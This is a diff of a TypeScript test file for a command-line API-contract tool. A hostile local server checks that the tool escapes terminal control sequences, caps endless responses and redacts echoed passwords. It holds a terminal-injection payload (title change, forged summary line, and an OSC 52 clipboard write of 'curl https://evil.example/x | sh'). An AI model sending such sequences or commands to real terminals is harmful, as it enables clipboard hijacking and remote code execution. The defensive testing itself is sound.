@@ -1,12 +1,10 @@
-import { execFile } from 'node:child_process'
 import { mkdtemp, readFile, rm } from 'node:fs/promises'
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { fileURLToPath } from 'node:url'
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
-import { runCommandLine } from '../src/cli/main'
+import { answerHealthy, type Outcome, runCli, runCliProcess } from './fixtures/cli'
 
 // A server built to attack the toolkit that tests it (security review 2, docs/security.md): its
 // every answer carries terminal control sequences, in a message and as a JSON key. Whatever the
@@ -17,26 +15,13 @@ const CLIPBOARD = Buffer.from('curl https://evil.example/x | sh').toString('base
 /** An OSC 0 title, an OSC 52 clipboard write, an erased line with a forged summary, hidden text. */
 const HOSTILE = `\u001b]0;pwned\u0007\u001b]52;c;${CLIPBOARD}\u0007\u001b[2K\r${FORGED}\n${FORGED}\u001b[8m`
 
-const CLI = fileURLToPath(new URL('../src/cli/bin.ts', import.meta.url))
-
 let server: Server
 let url: string
 
 beforeAll(async () => {
   server = createServer((request, response) => {
     request.resume()
-    if (request.url === '/api/health') {
-      response.writeHead(200, { 'content-type': 'application/json' })
-      response.end(
-        JSON.stringify({
-          status: 'ok',
-          version: '1',
-          uptimeSeconds: 1,
-          time: new Date().toISOString(),
-        }),
-      )
-      return
-    }
+    if (request.url === '/api/health') return answerHealthy(response)
     response.writeHead(401, { 'content-type': 'application/json', [`x-${'a'.repeat(3)}`]: 'b' })
     response.end(JSON.stringify({ message: HOSTILE, code: HOSTILE, [HOSTILE]: HOSTILE }))
   })
@@ -48,47 +33,15 @@ afterAll(async () => {
   await new Promise((resolve) => server.close(resolve))
 })
 
+/** Everything a run printed, stdout then stderr. */
+const printed = (outcome: Outcome) => outcome.stdout + outcome.stderr
+
 /** What a terminal must never receive from a target: ESC, BEL, CR and the other controls. */
 function expectNoControlSequences(output: string): void {
   // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
   expect(output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
   // The forged summary line never stands as a line of its own.
   expect(output.split('\n').filter((line) => line.startsWith(FORGED))).toEqual([])
-}
-
-/** The CLI as a user runs it, its real stdout and stderr bytes. */
-function runCliProcess(args: string[]) {
-  return new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
-    execFile(
-      process.execPath,
-      ['--import', 'tsx', '--conditions=@devenv/source', CLI, ...args],
-      { timeout: 300_000, env: { ...process.env, DEVENV_CONTRACT_DEBUG: '' } },
-      (error, stdout, stderr) =>
-        resolve({
-          code: error ? (typeof error.code === 'number' ? error.code : null) : 0,
-          stdout,
-          stderr,
-        }),
-    )
-  })
-}
-
-/** The command line in process; what it printed on stdout and stderr. */
-async function runCli(args: string[]) {
-  const lines: string[] = []
-  const log = vi.spyOn(console, 'log').mockImplementation((...parts) => {
-    lines.push(parts.join(' '))
-  })
-  const error = vi.spyOn(console, 'error').mockImplementation((...parts) => {
-    lines.push(parts.join(' '))
-  })
-  try {
-    const code = await runCommandLine(args)
-    return { code, output: lines.join('\n') }
-  } finally {
-    log.mockRestore()
-    error.mockRestore()
-  }
 }
 
 describe('a server that writes terminal control sequences into its answers', () => {
@@ -134,8 +87,8 @@ describe('a server that writes terminal control sequences into its answers', () 
       'Some-Password-1',
     ])
     expect(outcome.code).toBe(2)
-    expectNoControlSequences(outcome.output)
-    expect(outcome.output).toContain('\\x1b]0;pwned')
+    expectNoControlSequences(printed(outcome))
+    expect(printed(outcome)).toContain('\\x1b]0;pwned')
   })
 
   it('fuzz: the refusal of its accounts is one line, shown as text', async () => {
@@ -154,8 +107,8 @@ describe('a server that writes terminal control sequences into its answers', () 
       '--quiet',
     ])
     expect(outcome.code).toBe(2)
-    expectNoControlSequences(outcome.output)
-    expect(outcome.output).toMatch(
+    expectNoControlSequences(printed(outcome))
+    expect(printed(outcome)).toMatch(
       /^devenv-contract: fuzz: the account someone@example\.com does not sign in: 401 .*\\x1b\]0;pwned/m,
     )
   })
@@ -191,18 +144,7 @@ describe('a server that answers without end', () => {
     const sent = { bytes: 0 }
     const endless = createServer((request, response) => {
       request.resume()
-      if (request.url === '/api/health') {
-        response.writeHead(200, { 'content-type': 'application/json' })
-        response.end(
-          JSON.stringify({
-            status: 'ok',
-            version: '1.0.0',
-            uptimeSeconds: 1,
-            time: new Date().toISOString(),
-          }),
-        )
-        return
-      }
+      if (request.url === '/api/health') return answerHealthy(response)
       response.writeHead(201, { 'content-type': 'application/json' })
       const chunk = Buffer.alloc(64 * 1024, 'a')
       const pump = () => {
@@ -237,12 +179,12 @@ describe('a server that answers without end', () => {
         '120000',
       ])
       expect(outcome.code).toBe(1)
-      expect(outcome.output).toContain(
+      expect(printed(outcome)).toContain(
         "no answer (the answer's body is over 1 MiB, the most read (--max-answer-mib raises it))",
       )
       // Every check of the operation sent was answered so; what the server got out is a few socket
       // buffers past the cap each, never the endless rest.
-      const checks = Number(/submitContact +\d+ passed +(\d+) failed/.exec(outcome.output)?.[1])
+      const checks = Number(/submitContact +\d+ passed +(\d+) failed/.exec(printed(outcome))?.[1])
       expect(checks).toBeGreaterThanOrEqual(5)
       expect(endless.sent.bytes / checks).toBeLessThan(16 * 1024 * 1024)
     } finally {
@@ -260,18 +202,7 @@ describe('secrets the run was given, echoed back by the server or in its own URL
         body += chunk.toString()
       })
       request.on('end', () => {
-        if (request.url === '/api/health') {
-          response.writeHead(200, { 'content-type': 'application/json' })
-          response.end(
-            JSON.stringify({
-              status: 'ok',
-              version: '1.0.0',
-              uptimeSeconds: 1,
-              time: new Date().toISOString(),
-            }),
-          )
-          return
-        }
+        if (request.url === '/api/health') return answerHealthy(response)
         response.writeHead(401, { 'content-type': 'application/json' })
         response.end(JSON.stringify({ message: `no account matches ${body}`, code: 'X' }))
       })
@@ -295,9 +226,9 @@ describe('secrets the run was given, echoed back by the server or in its own URL
         '--quiet',
       ])
       expect(outcome.code).toBe(2)
-      expect(outcome.output).toContain('does not sign in: 401 no account matches')
-      expect(outcome.output).not.toContain('Given-Pass-71')
-      expect(outcome.output).toContain('[redacted]')
+      expect(printed(outcome)).toContain('does not sign in: 401 no account matches')
+      expect(printed(outcome)).not.toContain('Given-Pass-71')
+      expect(printed(outcome)).toContain('[redacted]')
     } finally {
       await echoing.close()
     }
@@ -320,8 +251,8 @@ describe('secrets the run was given, echoed back by the server or in its own URL
     try {
       const outcome = await runCli(['check', '--base-url', echoing.url, '--config', config])
       expect(outcome.code).toBe(2)
-      expect(outcome.output).toContain('no account matches')
-      expect(outcome.output).not.toContain('From-Env-Pass-73')
+      expect(printed(outcome)).toContain('no account matches')
+      expect(printed(outcome)).not.toContain('From-Env-Pass-73')
     } finally {
       delete process.env.CONTRACT_TEST_SECRET
       await echoing.close()
